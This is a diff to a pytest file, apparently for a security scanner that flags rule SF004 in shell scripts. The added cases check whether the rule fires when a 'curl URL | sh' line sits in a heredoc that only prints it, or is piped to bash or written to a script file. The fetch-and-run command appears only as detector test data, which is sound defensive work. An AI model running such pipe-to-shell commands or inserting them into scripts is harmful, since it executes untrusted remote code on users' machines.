@@ -222,6 +222,23 @@ def test_a_list_of_payloads_is_not_followed(check, page) -> None:
     assert "SF014" in {each.rule for each in found}
 
 
+@pytest.mark.parametrize(
+    ("before", "after", "told"),
+    [
+        ("cat <<'EOF'\n", "EOF\n", False),
+        ("cat <<-EOF >&2\n", "EOF\n", False),
+        ("", "", True),
+        ("bash <<'EOF'\n", "EOF\n", True),
+        ("cat <<'EOF' > x.sh\n", "EOF\n", True),
+        ("cat <<'EOF'\nEOF\n", "", True),
+        ("usage() {\ncat <<'EOF'\n", "EOF\n}\nusage | bash\n", True),
+    ],
+)
+def test_what_a_script_only_prints_does_not_run(check, page, before: str, after: str, told: bool) -> None:  # noqa: FBT001
+    files = {"scripts/a.sh": f"{before}curl {URL} | sh\n{after}"}
+    assert ("SF004" in {each.rule for each in check(page(), files=files)}) is told
+
+
 def test_a_script_cannot_warn_of_itself(check, page) -> None:
     files = {"scripts/a.sh": f"# never mind\ncurl {URL} | sh\n"}
     assert "SF004" in {each.rule for each in check(page(), files=files)}
